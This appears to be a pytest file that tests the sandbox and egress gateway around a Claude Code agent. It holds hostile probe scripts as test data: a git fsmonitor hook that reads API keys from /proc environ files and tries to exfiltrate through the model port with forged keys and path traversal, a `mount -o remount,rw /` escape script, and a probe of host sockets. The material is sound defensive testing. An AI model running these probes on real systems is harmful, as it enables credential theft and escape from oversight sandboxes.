"""The network inside the OS layer around ``claude``: its own namespace, the host's gateway to the
model endpoint's Messages API (which alone holds the API key) and a forward to the turn's MCP
server.

The attacks first: with the host's network namespace shared, an abstract Unix socket of the host
(the D-Bus session bus and X11 use them) and any loopback port of the host are reachable from a
read-only turn, however the file system is mounted; a socket file in a folder the sandbox shows is
connectable through a read-only bind; with the key in Claude's environment and a tunnel to the
endpoint's host, a command inside reads the key from /proc and sends the repository to another
API of that host under any account's key.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import secrets
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from control_center.core.approvals import ApprovalKind
from control_center.core.events import TurnEnded, TurnEvent, TurnStatus
from control_center.core.modes import Autonomy, Mode, Transport
from control_center.harness import sandbox
from control_center.harness.loop import Harness, RunRequest
from control_center.harness.loopback import LoopbackMessagesServer
from control_center.harness.settings import AppSettings
from control_center.harness.transports import claude_code
from control_center.harness.transports.egress import MCP_PORT, MODEL_PORT, PROXY_VARS, EgressGate
from control_center.workspace import Workspace
from tests.harness.test_claude_code_transport import PLAN_INPUT, REAL_CLI, needs_real_cli

needs_bwrap = pytest.mark.skipif(
    not sandbox.sandbox_available(), reason="bubblewrap is missing or does not work on this host"
)

NET_PROBE_CLAUDE = """#!{python}
# A stand-in for claude that tries the host's sockets from inside the sandbox, reports into $HOME.
import json, os, socket, sys, urllib.parse
targets = json.loads(os.environ["NET_PROBE_TARGETS"])

def http_answer(host, port, head):
    try:
        with socket.create_connection((host, port), timeout=5) as s:
            s.sendall(head)
            return s.recv(200).decode("latin-1")
    except OSError as exc:
        return "refused: " + type(exc).__name__

def fs_socket(path):
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    except OSError as exc:
        return "refused: " + type(exc).__name__
    s.settimeout(5)
    try:
        s.connect(path)
        return s.recv(100).decode("latin-1")
    except OSError as exc:
        return "refused: " + type(exc).__name__
    finally:
        s.close()

def abstract(name):
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    except OSError as exc:
        return "refused: " + type(exc).__name__
    s.settimeout(5)
    try:
        s.connect("\\0" + name)
        return s.recv(100).decode("latin-1")
    except OSError as exc:
        return "refused: " + type(exc).__name__
    finally:
        s.close()

argv = sys.argv[1:]
mcp = json.load(open(argv[argv.index("--mcp-config") + 1]))["mcpServers"]["control_center"]
mcp_url = urllib.parse.urlsplit(mcp["url"])
model_url = urllib.parse.urlsplit(os.environ["ANTHROPIC_BASE_URL"])
seen = {{
    "abstract": abstract(targets["abstract"]),
    "fs_socket": fs_socket(targets["fs_socket"]),
    "host_port": http_answer("127.0.0.1", targets["port"], b"GET / HTTP/1.0\\r\\n\\r\\n"),
    "model": http_answer(model_url.hostname, model_url.port,
                         b"GET /v1/models HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n"),
    "mcp": http_answer(mcp_url.hostname, mcp_url.port,
                       ("POST " + mcp_url.path + " HTTP/1.0\\r\\nContent-Length: 0\\r\\n\\r\\n").encode()),
}}
with open(os.path.join(os.environ["HOME"], "net-probe.json"), "w") as f:
    json.dump(seen, f)
print(json.dumps({{"type": "result", "subtype": "success", "is_error": False, "result": "ok",
                  "num_turns": 1, "usage": {{}}, "permission_denials": []}}), flush=True)
"""

HOST_SECRET = b"HOST-ONLY-SERVICE\n"


class _HostServices:
    """What a desktop host has that a read-only turn must not reach: a service on an abstract
    Unix socket (as D-Bus and X11 use), one on a Unix socket file in a folder the sandbox sees
    (as an IDE, an agent or a database leaves in /var/tmp or a project folder) and one on a
    loopback TCP port, all answering at once."""

    def __init__(self) -> None:
        self.abstract_name = f"cc-test-{secrets.token_hex(8)}"
        self.unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.unix.bind("\0" + self.abstract_name)
        self.unix.listen(8)
        # Not under /tmp, /run or the workspace (hidden inside): a place the sandbox shows read-only.
        self.folder = Path(tempfile.mkdtemp(prefix="cc-sock-", dir="/var/tmp"))
        self.fs_path = self.folder / "service.sock"
        self.fs = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.fs.bind(str(self.fs_path))
        self.fs.listen(8)
        self.tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen(8)
        self.port = self.tcp.getsockname()[1]
        self._threads = [
            threading.Thread(target=self._serve, args=(s,), daemon=True)
            for s in (self.unix, self.fs, self.tcp)
        ]
        for t in self._threads:
            t.start()

    @staticmethod
    def _serve(listener: socket.socket) -> None:
        while True:
            try:
                conn, _ = listener.accept()
            except OSError:
                return
            with conn:
                conn.sendall(HOST_SECRET)

    def close(self) -> None:
        for s in (self.unix, self.fs, self.tcp):
            s.shutdown(socket.SHUT_RDWR)
            s.close()
        for t in self._threads:
            t.join(5)
        shutil.rmtree(self.folder, ignore_errors=True)

    def targets(self) -> str:
        return json.dumps({"abstract": self.abstract_name, "fs_socket": str(self.fs_path), "port": self.port})


@pytest.fixture
def host_services() -> Iterator[_HostServices]:
    services = _HostServices()
    # The fixture's own check: outside the sandbox both really answer (so "refused" means something).
    probe = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    probe.connect("\0" + services.abstract_name)
    assert probe.recv(100) == HOST_SECRET
    probe.close()
    probe = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    probe.connect(str(services.fs_path))
    assert probe.recv(100) == HOST_SECRET
    probe.close()
    with socket.create_connection(("127.0.0.1", services.port)) as conn:
        assert conn.recv(100) == HOST_SECRET
    yield services
    services.close()


def _run(ws: Workspace, settings: AppSettings, space_id: str) -> tuple[TurnEnded, list[TurnEvent]]:
    events: list[TurnEvent] = []
    req = RunRequest("look around", space_id, transport=Transport.CLAUDE_CODE)
    ended = asyncio.run(Harness(ws, settings).run(req, emit=events.append))
    return ended, events


def _probe_cli(folder: Path) -> Path:
    cli = folder / "claude"
    cli.parent.mkdir(parents=True)
    cli.write_text(NET_PROBE_CLAUDE.format(python=sys.executable))
    cli.chmod(0o755)
    return cli


@needs_bwrap
def test_a_read_only_turn_reaches_no_unix_socket_and_no_loopback_port_of_the_host(
    ws: Workspace, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, host_services: _HostServices
) -> None:
    monkeypatch.setattr(claude_code, "resolve_api_key", lambda: ("sk-test", "env"))
    monkeypatch.setenv("NET_PROBE_TARGETS", host_services.targets())
    cli = _probe_cli(ws.root.parent / "net-probe-bin")
    space = ws.create_space("netbox", mode=Mode.PLAN, autonomy=Autonomy.YOLO)
    with LoopbackMessagesServer([]) as server:
        ended, _events = _run(ws, AppSettings(claude_cli=str(cli), base_url=server.base_url), space.id)
    assert ended.status is TurnStatus.COMPLETED, ended.error
    seen: dict[str, Any] = json.loads((ws.root / "claude-homes" / space.id / "net-probe.json").read_text())
    # What the turn needs still answers from inside: the model endpoint and the turn's MCP server
    # (which refuses a request without the turn's secret).
    assert seen["model"].startswith("HTTP/"), seen
    assert seen["mcp"].startswith("HTTP/1.1 401"), seen
    # Nothing else of the host does.
    assert HOST_SECRET.decode() not in seen["abstract"], seen
    assert seen["abstract"].startswith("refused"), seen
    assert HOST_SECRET.decode() not in seen["fs_socket"], seen
    assert seen["fs_socket"].startswith("refused"), seen
    assert HOST_SECRET.decode() not in seen["host_port"], seen
    assert seen["host_port"].startswith("refused"), seen


def test_chat_mode_keeps_the_hosts_network_but_no_host_socket(
    ws: Workspace, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, host_services: _HostServices
) -> None:
    """Agent mode runs in the Agent-mode sandbox: the host's network stays (the same probe
    reaches a loopback port, which is what makes the read-only test above able to fail), but no
    Unix socket of the host, abstract or a file, is reachable."""
    monkeypatch.setattr(claude_code, "resolve_api_key", lambda: ("sk-test", "env"))
    monkeypatch.setenv("NET_PROBE_TARGETS", host_services.targets())
    cli = _probe_cli(tmp_path / "net-probe-bin")
    space = ws.create_space("netchat", mode=Mode.CHAT)
    with LoopbackMessagesServer([]) as server:
        ended, _events = _run(ws, AppSettings(claude_cli=str(cli), base_url=server.base_url), space.id)
    assert ended.status is TurnStatus.COMPLETED, ended.error
    seen = json.loads((ws.root / "claude-homes" / space.id / "net-probe.json").read_text())
    if sandbox.sandbox_available():
        assert seen["abstract"].startswith("refused")
        assert seen["fs_socket"].startswith("refused")
    else:
        assert seen["abstract"] == HOST_SECRET.decode()
    assert seen["host_port"] == HOST_SECRET.decode()
    assert seen["model"].startswith("HTTP/")
    assert seen["mcp"].startswith("HTTP/1.1 401")


# -- an https endpoint: Claude reaches it through the host's CONNECT proxy, TLS end to end ---------


def _self_signed(folder: Path, ip: str) -> tuple[Path, Path]:
    """A certificate for ``ip`` that is its own authority (Claude is told to trust it)."""
    import datetime
    import ipaddress

    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "cc-test-endpoint")])
    now = datetime.datetime.now(datetime.UTC)
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(minutes=5))
        .not_valid_after(now + datetime.timedelta(hours=1))
        .add_extension(
            x509.SubjectAlternativeName([x509.IPAddress(ipaddress.ip_address(ip))]), critical=False
        )
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .sign(key, hashes.SHA256())
    )
    cert_file, key_file = folder / "endpoint.pem", folder / "endpoint.key"
    cert_file.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    key_file.write_bytes(
        key.private_bytes(
            serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
        )
    )
    return cert_file, key_file


class _TlsFront:
    """TLS on ``ip``:port in front of a plain loopback server (the model endpoint over https)."""

    def __init__(self, ip: str, backend_port: int, cert: Path, key: Path) -> None:
        import ssl

        self.context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        self.context.load_cert_chain(cert, key)
        self.backend_port = backend_port
        self.listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.listener.bind((ip, 0))
        self.listener.listen(16)
        self.port = self.listener.getsockname()[1]
        self.connections = 0
        self._thread = threading.Thread(target=self._accept, daemon=True)
        self._thread.start()

    def _accept(self) -> None:
        while True:
            try:
                raw, _ = self.listener.accept()
            except OSError:
                return
            self.connections += 1
            threading.Thread(target=self._serve, args=(raw,), daemon=True).start()

    def _serve(self, raw: socket.socket) -> None:
        try:
            tls = self.context.wrap_socket(raw, server_side=True)
        except OSError:
            raw.close()
            return
        backend = socket.create_connection(("127.0.0.1", self.backend_port))

        def pump(src: socket.socket, dst: socket.socket) -> None:
            try:
                while data := src.recv(65536):
                    dst.sendall(data)
            except OSError:
                pass
            finally:
                for s in (src, dst):
                    with contextlib.suppress(OSError):
                        s.shutdown(socket.SHUT_RDWR)

        back = threading.Thread(target=pump, args=(backend, tls), daemon=True)
        back.start()
        pump(tls, backend)
        back.join(10)
        tls.close()
        backend.close()

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.listener.shutdown(socket.SHUT_RDWR)
        self.listener.close()
        self._thread.join(5)


@needs_real_cli
@needs_bwrap
def test_real_cli_reaches_an_https_endpoint_through_the_hosts_gateway(
    ws: Workspace, monkeypatch: pytest.MonkeyPatch, request: pytest.FixtureRequest
) -> None:
    """The production shape (https://api.anthropic.com): from its own namespace Claude speaks to
    the host's gateway, which holds the key and the TLS to the endpoint (checked against the
    authority the operator gave Claude Code, ``NODE_EXTRA_CA_CERTS``)."""
    monkeypatch.setattr(claude_code, "resolve_api_key", lambda: ("sk-loopback", "env"))
    for name in PROXY_VARS:  # the host goes to the endpoint directly here
        monkeypatch.delenv(name, raising=False)
    ip = "127.0.0.2"
    # Outside /tmp (private inside the sandbox), where Claude can read the authority.
    folder = Path(tempfile.mkdtemp(prefix="cc-tls-", dir="/var/tmp"))
    request.addfinalizer(lambda: shutil.rmtree(folder, ignore_errors=True))
    cert, key = _self_signed(folder, ip)
    monkeypatch.setenv("NODE_EXTRA_CA_CERTS", str(cert))
    space = ws.create_space("https-plan", mode=Mode.PLAN)
    replies = [
        [{"type": "tool_use", "name": "mcp__control_center__submit_plan", "input": PLAN_INPUT}],
        [{"type": "text", "text": "Submitted."}],
    ]
    with LoopbackMessagesServer(replies) as server:
        backend_port = int(server.base_url.rsplit(":", 1)[1].split("/")[0])
        front = _TlsFront(ip, backend_port, cert, key)
        try:
            settings = AppSettings(claude_cli=str(REAL_CLI), base_url=f"https://{ip}:{front.port}")
            ended, _events = _run(ws, settings, space.id)
            requests = list(server.requests)
        finally:
            front.close()
    assert ended.status is TurnStatus.COMPLETED, ended.error
    assert front.connections >= 1
    assert len(requests) >= 2
    assert all(r.api_key == "sk-loopback" for r in requests)  # set by the host, never inside
    plans = ws.store.approvals(kind=ApprovalKind.PLAN, space_id=space.id)
    assert len(plans) == 1


# -- the host's side alone: the MCP forward and what Claude is told ------------------------------


async def _echo_server() -> tuple[asyncio.AbstractServer, int]:
    async def echo(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(b"ECHO:" + await reader.read(100))
        await writer.drain()
        writer.close()

    server = await asyncio.start_server(echo, "127.0.0.1", 0)
    return server, server.sockets[0].getsockname()[1]


async def _through(sock: Path, payload: bytes) -> bytes:
    reader, writer = await asyncio.open_unix_connection(str(sock))
    writer.write(payload)
    await writer.drain()
    try:
        return await asyncio.wait_for(reader.read(-1), 10)
    finally:
        writer.close()


def test_the_mcp_socket_forwards_to_the_turns_server_and_the_model_socket_is_no_tunnel() -> None:
    async def scenario() -> dict[str, bytes]:
        endpoint, endpoint_port = await _echo_server()
        mcp, mcp_port = await _echo_server()
        try:
            async with EgressGate(f"https://127.0.0.1:{endpoint_port}", mcp_port, "sk-real") as gate:
                model_sock, mcp_sock = (r.socket for r in gate.routes)
                ask = "CONNECT {} HTTP/1.1\r\nHost: x\r\n\r\n".format
                return {
                    "mcp_sock": await _through(mcp_sock, b"hi"),
                    "connect_endpoint": await _through(
                        model_sock, ask(f"127.0.0.1:{endpoint_port}").encode()
                    ),
                    "connect_mcp": await _through(model_sock, ask(f"127.0.0.1:{MCP_PORT}").encode()),
                }
        finally:
            for server in (endpoint, mcp):
                server.close()

    seen = asyncio.run(scenario())
    assert seen["mcp_sock"] == b"ECHO:hi"
    for name in ("connect_endpoint", "connect_mcp"):
        assert seen[name].startswith(b"HTTP/1.1 403"), (name, seen[name])
        assert b"ECHO" not in seen[name]


def test_the_gate_tells_claude_where_things_are_inside_and_drops_the_operators_proxies() -> None:
    async def scenario() -> tuple[dict[str, str], dict[str, str], Path]:
        async with EgressGate("http://127.0.0.1:8123/prefix/", 9, "sk-real") as plain:
            plain_env = plain.env()
        async with EgressGate(None, 9, "sk-real") as tls:
            tls_env = tls.env()
            folder = tls.folder
        assert folder is not None
        return plain_env, tls_env, folder

    plain, tls, folder = asyncio.run(scenario())
    assert plain["ANTHROPIC_BASE_URL"] == f"http://127.0.0.1:{MODEL_PORT}/prefix"
    # An https endpoint too: Claude speaks plain HTTP to the host's gateway, which holds the TLS.
    assert tls["ANTHROPIC_BASE_URL"] == f"http://127.0.0.1:{MODEL_PORT}"
    for env in (plain, tls):
        assert all(env[name] == "" for name in PROXY_VARS)
        assert env["ANTHROPIC_API_KEY"].startswith("sk-ant-sandbox-")
    assert plain["ANTHROPIC_API_KEY"] != tls["ANTHROPIC_API_KEY"]  # one per turn
    assert not folder.exists()  # the sockets go with the turn


# -- the operator's key stays on the host; the model port is not a way out -----------------------

KEY_PROBE = """import glob, json, os, socket, urllib.parse
# A program git runs on `git status` (core.fsmonitor) in a plan space: it looks for the operator's
# key everywhere inside, then tries the model port as a way out (other paths, other keys).
report = {"texts": [], "keys": [], "base_urls": [], "attempts": {}}
sources = [("self", "\\0".join(f"{k}={v}" for k, v in os.environ.items()))]
for name in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        with open(name, "rb") as f:
            sources.append((name, f.read().decode("utf-8", "replace")))
    except OSError:
        pass
for name, text in sources:
    report["texts"].append(text)
    for item in text.split("\\0"):
        key, _, value = item.partition("=")
        if key == "ANTHROPIC_API_KEY" and value:
            report["keys"].append(value)
        if key == "ANTHROPIC_BASE_URL" and value:
            report["base_urls"].append(value)

def ask(method, path, headers, body=b"{}"):
    url = urllib.parse.urlsplit(report["base_urls"][0])
    head = f"{method} {path} HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: {len(body)}\\r\\n"
    head += "Connection: close\\r\\n"
    head += "".join(f"{k}: {v}\\r\\n" for k, v in headers.items())
    try:
        with socket.create_connection((url.hostname, url.port), timeout=10) as s:
            s.sendall(head.encode() + b"\\r\\n" + body)
            data = b""
            while chunk := s.recv(65536):
                data += chunk
        return data.decode("latin-1")
    except OSError as exc:
        return "refused: " + type(exc).__name__

if report["base_urls"]:
    prefix = urllib.parse.urlsplit(report["base_urls"][0]).path.rstrip("/")
    found = report["keys"][0] if report["keys"] else ""
    report["attempts"] = {
        # Another account's key to another API of the same host (the Files API keeps what it gets).
        "files_other_key": ask("POST", prefix + "/v1/files", {"x-api-key": "sk-ant-attacker-0000"}),
        "files_other_key_bearer": ask("POST", "/v1/files", {"authorization": "Bearer sk-ant-attacker-0000"}),
        # The Messages API itself with a key that is not the turn's.
        "messages_forged_key": ask("POST", prefix + "/v1/messages", {"x-api-key": "sk-forged"}),
        "messages_no_key": ask("POST", prefix + "/v1/messages", {}),
        # The key found inside, on paths Claude does not use.
        "files_found_key": ask("POST", prefix + "/v1/files", {"x-api-key": found}),
        "models_found_key": ask("GET", prefix + "/v1/models", {"x-api-key": found}),
        "traversal_found_key": ask("POST", prefix + "/v1/messages/../files", {"x-api-key": found}),
        "absolute_found_key": ask("POST", "http://example.com/v1/messages", {"x-api-key": found}),
    }
with open(os.path.join(os.environ["HOME"], "key-probe.json"), "w") as f:
    json.dump(report, f)
"""


def _key_probe(folder: Path) -> Path:
    probe = folder / "probe.py"
    probe.write_text(KEY_PROBE)
    return probe


@needs_real_cli
@needs_bwrap
def test_real_cli_a_command_in_a_plan_space_finds_no_key_and_the_model_port_leads_nowhere_else(
    ws: Workspace, repo: Path, monkeypatch: pytest.MonkeyPatch, request: pytest.FixtureRequest
) -> None:
    """The attack: a program git runs inside a plan space reads Claude's environment (its own,
    /proc/*/environ) and sends the repository through the model port to another API of the same
    host under another account's key. Only the host holds the operator's key; inside there is a
    per-turn stand-in, and the port answers the Messages API alone, for that stand-in alone."""
    real_key = f"sk-ant-real-{secrets.token_hex(12)}"
    monkeypatch.setattr(claude_code, "resolve_api_key", lambda: (real_key, "env"))
    folder = Path(tempfile.mkdtemp(prefix="cc-keyprobe-", dir="/var/tmp"))
    request.addfinalizer(lambda: shutil.rmtree(folder, ignore_errors=True))
    probe = _key_probe(folder)
    subprocess.run(
        ["git", "-C", str(repo), "config", "core.fsmonitor", f"{sys.executable} {probe}; false"], check=True
    )
    space = ws.create_space("keyprobe", mode=Mode.PLAN, autonomy=Autonomy.YOLO)
    replies = [
        [{"type": "tool_use", "name": "Bash", "input": {"command": "git status", "description": "look"}}],
        [{"type": "tool_use", "name": "mcp__control_center__submit_plan", "input": PLAN_INPUT}],
        [{"type": "text", "text": "Submitted."}],
    ]
    with LoopbackMessagesServer(replies) as server:
        ended, _events = _run(
            ws, AppSettings(claude_cli=str(REAL_CLI), base_url=server.base_url + "/gw"), space.id
        )
        seen = list(server.seen)
    assert ended.status is TurnStatus.COMPLETED, ended.error
    assert len(ws.store.approvals(kind=ApprovalKind.PLAN, space_id=space.id)) == 1
    report: dict[str, Any] = json.loads((ws.root / "claude-homes" / space.id / "key-probe.json").read_text())
    # The probe really read Claude's environment (it found a key and the endpoint) ...
    assert report["keys"], report
    assert report["base_urls"], report
    # ... and the operator's key is nowhere inside: not in any environment, not on any command line.
    assert all(real_key not in text for text in report["texts"])
    assert real_key not in json.dumps(report)
    attempts = report["attempts"]
    for name in ("files_other_key", "files_other_key_bearer", "files_found_key", "models_found_key"):
        assert attempts[name].startswith("HTTP/1.1 403"), (name, attempts[name])
    for name in ("traversal_found_key", "absolute_found_key"):
        assert attempts[name].startswith("HTTP/1.1 403"), (name, attempts[name])
    for name in ("messages_forged_key", "messages_no_key"):
        assert attempts[name].startswith("HTTP/1.1 401"), (name, attempts[name])
    # None of it reached the endpoint: it saw Claude's own Messages requests, with the real key.
    assert len(seen) >= 3, seen
    for method, path, key in seen:
        assert (method, path.split("?")[0], key) == ("POST", "/gw/v1/messages", real_key), seen


def test_the_sandbox_covers_the_hosts_socket_files_it_would_show_and_only_those(
    tmp_path: Path, request: pytest.FixtureRequest
) -> None:
    """Which sockets of ``/proc/net/unix`` get an empty file over them: those a bind would show
    inside; not the ones under a hidden folder or /tmp (already gone), not the turn's own
    forwarding sockets, not abstract ones, not a path that is no longer a socket."""
    visible = Path(tempfile.mkdtemp(prefix="cc-sock-", dir="/var/tmp"))
    request.addfinalizer(lambda: shutil.rmtree(visible, ignore_errors=True))
    own = visible / "cc-net-own"
    own.mkdir()
    (visible / "to-tmp").symlink_to(tmp_path)  # a folder that is a link into a hidden place
    for path in (visible / "ide.sock", own / "model.sock", tmp_path / "x11.sock"):
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.bind(str(path))
        request.addfinalizer(s.close)
    (visible / "was-a-socket").write_text("")
    table = tmp_path / "unix"
    rows = [
        visible / "ide.sock",
        own / "model.sock",
        tmp_path / "x11.sock",
        visible / "to-tmp" / "x11.sock",
        visible / "was-a-socket",
        visible / "gone.sock",
    ]
    table.write_text(
        "Num       RefCount Protocol Flags    Type St Inode Path\n"
        + "".join(
            f"0000000000000000: 00000002 00000000 00010000 0001 01 {i} {p}\n" for i, p in enumerate(rows)
        )
        + "0000000000000000: 00000002 00000000 00010000 0001 01 99 @/abstract/name\n"
    )
    mounts = [("--ro-bind", "/", "/"), ("--tmpfs", "", "/tmp"), ("--ro-bind", str(own), str(own))]
    found = sandbox.visible_host_sockets(mounts, own, table=str(table))
    assert found == [(visible / "ide.sock").resolve()]
    # And the argv puts the cover last, over every bind that would show it.
    box = sandbox.ClaudeSandbox(visible, tmp_path)
    argv = box.argv(["claude"], "bwrap")
    mask = ["--ro-bind", "/dev/null", str((visible / "ide.sock").resolve())]
    at = next(i for i in range(len(argv)) if argv[i : i + 3] == mask)
    assert at > argv.index("--bind")


@needs_real_cli
@needs_bwrap
def test_real_cli_websearch_in_a_plan_space_still_reaches_the_endpoint(
    ws: Workspace, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Claude Code's WebSearch is a Messages request with the endpoint's web search tool: the one
    server tool the gateway lets through (it picks no URL); the turn's own requests pass too."""
    monkeypatch.setattr(claude_code, "resolve_api_key", lambda: ("sk-loopback", "env"))
    space = ws.create_space("websearch", mode=Mode.PLAN)
    replies = [
        [{"type": "tool_use", "name": "WebSearch", "input": {"query": "h11 documentation"}}],
        [{"type": "text", "text": "No results worth keeping."}],
        [{"type": "tool_use", "name": "mcp__control_center__submit_plan", "input": PLAN_INPUT}],
        [{"type": "text", "text": "Submitted."}],
    ]
    with LoopbackMessagesServer(replies) as server:
        ended, _events = _run(ws, AppSettings(claude_cli=str(REAL_CLI), base_url=server.base_url), space.id)
        requests = list(server.requests)
    assert ended.status is TurnStatus.COMPLETED, ended.error
    searches = [
        r
        for r in requests
        if any(t.get("type", "").startswith("web_search_") for t in r.body.get("tools", []))
    ]
    assert len(searches) == 1, [r.body.get("tools") for r in requests]
    assert all(r.api_key == "sk-loopback" for r in requests)


# -- run as root, bubblewrap keeps every capability inside unless told otherwise ------------------

REMOUNT_PROBE = """#!/bin/sh
# A stand-in for claude (and, below, a command of the built-in harness): remount the read-only
# file system writable, then write into the worktree.
mount -o remount,rw / 2>/dev/null
mount -o remount,bind,rw "$PWD" 2>/dev/null
echo pwned > "${TARGET:-$PWD}/pwned-by-remount" 2>/dev/null
echo '{"type": "result", "subtype": "success", "is_error": false, "result": "ok", "num_turns": 1,'\
' "usage": {}, "permission_denials": []}'
"""

needs_root = pytest.mark.skipif(
    os.geteuid() != 0, reason="only a root caller leaves bubblewrap's capabilities inside (CI runs as root)"
)


@needs_bwrap
@needs_root
def test_as_root_a_read_only_turn_cannot_remount_its_way_to_writing(
    ws: Workspace, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """The attack: bubblewrap started by root keeps CAP_SYS_ADMIN inside, and `mount -o
    remount,rw /` makes the whole host file system writable again — the worktree included."""
    monkeypatch.setattr(claude_code, "resolve_api_key", lambda: ("sk-test", "env"))
    cli = tmp_path / "remount-bin" / "claude"
    cli.parent.mkdir()
    cli.write_text(REMOUNT_PROBE)
    cli.chmod(0o755)
    space = ws.create_space("remount", mode=Mode.PLAN, autonomy=Autonomy.YOLO)
    with LoopbackMessagesServer([]) as server:
        ended, _events = _run(ws, AppSettings(claude_cli=str(cli), base_url=server.base_url), space.id)
    assert ended.status is TurnStatus.COMPLETED, ended.error
    assert not (space.worktree / "pwned-by-remount").exists()


@needs_bwrap
@needs_root
def test_as_root_a_read_only_command_of_the_built_in_harness_cannot_remount_either() -> None:
    # Outside /tmp, which is private inside: the probe must be there to run.
    worktree = Path(tempfile.mkdtemp(prefix="cc-remount-", dir="/var/tmp"))
    probe = worktree / "probe.sh"
    probe.write_text(REMOUNT_PROBE)
    probe.chmod(0o755)
    try:
        argv = sandbox.wrap_argv([str(probe)], worktree, read_only=True)
        assert argv[0] != str(probe)  # really wrapped
        done = subprocess.run(argv, cwd=worktree, capture_output=True, text=True, check=False, timeout=30)
        assert '"result": "ok"' in done.stdout, done.stderr  # the probe ran
        assert not (worktree / "pwned-by-remount").exists()
    finally:
        shutil.rmtree(worktree, ignore_errors=True)


@needs_bwrap
@needs_root
def test_as_root_a_gate_cannot_remount_its_way_out_of_its_scratch_copy() -> None:
    """A review gate runs in a throw-away copy; remounting / writable would let it write the
    host's files (here a folder beside the worktree)."""
    if not sandbox.gate_sandbox_available():
        pytest.skip("the gate box cannot be built here")
    base = Path(tempfile.mkdtemp(prefix="cc-remount-gate-", dir="/var/tmp"))
    worktree, outside = base / "worktree", base / "outside"
    worktree.mkdir()
    outside.mkdir()
    probe = worktree / "probe.sh"
    probe.write_text(REMOUNT_PROBE)
    probe.chmod(0o755)
    scratch = sandbox.make_scratch_copy(worktree)
    try:
        argv = sandbox.gate_argv([str(probe)], worktree, scratch, network=False)
        assert argv is not None
        done = subprocess.run(
            argv,
            capture_output=True,
            text=True,
            check=False,
            timeout=30,
            env={**os.environ, "TARGET": str(outside)},
        )
        assert '"result": "ok"' in done.stdout, done.stderr
        assert not (outside / "pwned-by-remount").exists()
    finally:
        shutil.rmtree(base, ignore_errors=True)
        shutil.rmtree(scratch, ignore_errors=True)
